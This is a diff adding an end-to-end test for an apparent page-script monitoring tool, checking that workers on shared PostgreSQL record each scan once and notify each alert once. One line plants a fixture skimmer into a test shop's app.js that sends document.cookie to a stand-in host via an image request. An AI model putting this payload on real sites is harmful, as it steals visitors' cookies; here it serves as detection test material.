@@ -1,0 +1,115 @@
+// E2E on PostgreSQL: a scheduler, a web process and workers share one database. Each slot is recorded once, a killed
+// worker's job goes to another, a redelivered job is refused by the slot fence, and each alert is notified once.
+
+import assert from 'node:assert/strict';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
+import { APP_JS, installShop } from '../fixtures/shop.js';
+import { runCli, tempProject, writeConfig } from '../fixtures/cli.js';
+import { startHttpReceiver, type HttpReceiver } from '../fixtures/receivers.js';
+import { databaseOf, plainSql } from '../fixtures/test-database.js';
+import { startRole, type ServeProcess } from '../fixtures/serve-process.js';
+
+const TARGETS = 6;
+
+describe('workers on a shared PostgreSQL database', () => {
+  let site: FixtureSite;
+  let hook: HttpReceiver;
+  let dir: string;
+  const running: ServeProcess[] = [];
+  const start = async (args: string[], ready: string, env: Record<string, string> = {}) => {
+    const started = await startRole(dir, args, ready, env);
+    running.push(started);
+    return started;
+  };
+  const count = async (sql: string, ...params: (string | number)[]) => {
+    const db = plainSql(databaseOf(dir));
+    try {
+      return (await db.prepare<(string | number)[], { n: number }>(sql).get(...params))!.n;
+    } finally {
+      await db.close();
+    }
+  };
+
+  beforeAll(async () => {
+    site = await startFixtureSite();
+    installShop(site);
+    hook = await startHttpReceiver();
+    dir = tempProject('sw-workers-');
+    const targets = Array.from({ length: TARGETS }, (_, i) => ({ name: `shop${i}`, url: site.url('shop.test', '/checkout') }));
+    writeConfig(dir, targets, ['every: 3s', 'jitter: 0s', 'queue:\n  jobExpiry: 6s', 'canary:\n  enabled: false',
+      `notify:\n  - type: webhook\n    url: ${hook.url}/hook\n    minSeverity: low`].join('\n'));
+    assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
+    assert.equal((await runCli(['approve', '--all', '--by', 'alice', '--note', 'initial inventory'], { cwd: dir })).code, 0);
+  });
+  afterAll(async () => {
+    await Promise.all(running.map((p) => p.stop('SIGKILL')));
+    await site?.close();
+    await hook?.close();
+  });
+
+  it('records every slot once across workers, through a killed worker, a redelivery and a planted skimmer', async () => {
+    // Two schedulers: each due slot is dispatched by one, each notification delivered by one.
+    await start(['serve', '--role', 'scheduler'], 'serve.started');
+    await start(['serve', '--role', 'scheduler'], 'serve.started');
+    const web = await start(['serve', '--role', 'web', '--port', '0'], 'serve.started');
+    const a = await start(['worker'], 'worker.started');
+    const b = await start(['worker'], 'worker.started');
+    const finished = (w: ServeProcess) => w.logs.filter((l) => l.event === 'scan.finished').length;
+    await expect.poll(() => Math.min(finished(a), finished(b)), { timeout: 60_000 }).toBeGreaterThanOrEqual(2);
+
+    // kill -9 of a worker mid-capture: the slot it had is recorded once, by the other worker, after the job expires.
+    const seen = a.logs.length;
+    const taken = await a.waitFor((l) => l.event === 'scan.started' && a.logs.indexOf(l) >= seen, 30_000, 'a scan the first worker starts');
+    await a.stop('SIGKILL');
+    const recorded = () => count('SELECT COUNT(*) AS n FROM scans s JOIN targets t ON t.id = s.target_id WHERE t.name = ? AND s.slot = ?', String(taken.target), String(taken.slot));
+    await expect.poll(recorded, { timeout: 45_000 }).toBe(1);
+    const trail = (w: ServeProcess) => w.logs.filter((l) => String(l.event).startsWith('scan.')).map((l) => `${l.event} ${l.target} ${l.slot ?? l.scanId}`).join('\n');
+    assert.ok(b.logs.some((l) => l.event === 'scan.finished' && l.target === taken.target), `the other worker recorded ${taken.target} ${taken.slot}:\nA\n${trail(a)}\nB\n${trail(b)}`);
+
+    // A worker that dies after its commit and before its job completes: the redelivered job is refused at commit.
+    const c = await start(['worker'], 'worker.started', { SCRIPTWARDEN_FAULT: 'kill-after-commit' });
+    const committed = await c.waitFor((l) => l.event === 'scan.finished', 30_000, 'the faulty worker commits a scan');
+    await new Promise((resolve) => c.child.once('close', resolve));
+    const dropped = await b.waitFor((l) => l.event === 'scan.duplicate_dropped' && l.slot === committed.slot, 45_000, 'the redelivered job refused');
+    assert.equal(dropped.target, committed.target);
+
+    // A skimmer planted on every page: one alert per page, each notified once, whichever worker raised it. The receiver
+    // answers slowly, so both schedulers' deliveries see the same notifications due.
+    hook.answerAfter(700);
+    site.set('shop.test', '/static/app.js', `${APP_JS}\nnew Image().src = 'http://cdn-stats.test:${site.port}/p?d=' + btoa(document.cookie);`);
+    const openAlerts = () => count("SELECT COUNT(DISTINCT target_id) AS n FROM alerts WHERE status = 'open' AND type <> 'target.unhealthy'");
+    await expect.poll(openAlerts, { timeout: 60_000 }).toBe(TARGETS);
+    const allAlerts = () => count("SELECT COUNT(*) AS n FROM alerts WHERE type <> 'target.unhealthy'");
+    await expect.poll(async () => hook.received.length >= await allAlerts(), { timeout: 30_000 }).toBe(true);
+    const metrics = await (await fetch(`${web.url}metrics`)).text();
+    assert.match(metrics, /^scriptwarden_queue_depth\{vantage="default"\} \d+$/m);
+    assert.match(metrics, /^scriptwarden_schedule_lag_seconds\{vantage="default"\} [\d.]+$/m);
+    for (const p of running) await p.stop('SIGTERM');
+
+    const alertIds = hook.received.map((r) => (JSON.parse(r.body) as { alert: { id: number } }).alert.id);
+    assert.equal(new Set(alertIds).size, alertIds.length, `each alert notified once: ${alertIds.join(', ')}`);
+    // The skimmer's change and its new destination, raised once per page: no alert twice.
+    const raised = await allAlerts();
+    assert.equal(await count("SELECT COUNT(*) AS n FROM (SELECT DISTINCT target_id, profile, dedupe_key FROM alerts WHERE type <> 'target.unhealthy') d"), raised, 'no alert raised twice');
+    assert.equal(raised % TARGETS, 0, `the same alerts on every page (${raised})`);
+    assert.equal(alertIds.length, raised, 'every alert notified');
+    assert.equal(await count('SELECT COUNT(*) AS n FROM (SELECT 1 FROM scans WHERE slot IS NOT NULL GROUP BY target_id, profile, slot HAVING COUNT(*) > 1) d'), 0, 'no slot recorded twice');
+    assert.equal(await count('SELECT COUNT(*) AS n FROM (SELECT 1 FROM scans WHERE chain_seq IS NOT NULL GROUP BY target_id, profile HAVING COUNT(*) <> MAX(chain_seq) OR MIN(chain_seq) <> 1) d'), 0, 'every chain gapless');
+    assert.ok(await count('SELECT COUNT(*) AS n FROM chain_anchors') >= 1, 'the scheduler anchored the chains at its stop');
+    const verified = await runCli(['verify'], { cwd: dir });
+    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
+  });
+
+  it('refuses the shared roles on a SQLite database, and says why', async () => {
+    const local = tempProject('sw-workers-sqlite-');
+    const path = writeConfig(local, [{ name: 'home', url: site.url('shop.test', '/') }]);
+    writeFileSync(path, readFileSync(path, 'utf8').replace(/^database: .*$/m, 'database: ./local.db'));
+    for (const args of [['worker'], ['serve', '--role', 'web'], ['serve', '--role', 'scheduler']]) {
+      const result = await runCli(args, { cwd: local });
+      assert.equal(result.code, 2, `${args.join(' ')}: ${result.stderr}`);
+      assert.match(result.stderr, /"database:" is a SQLite file \(.*local\.db\) that only one machine can use/);
+    }
+  });
+});
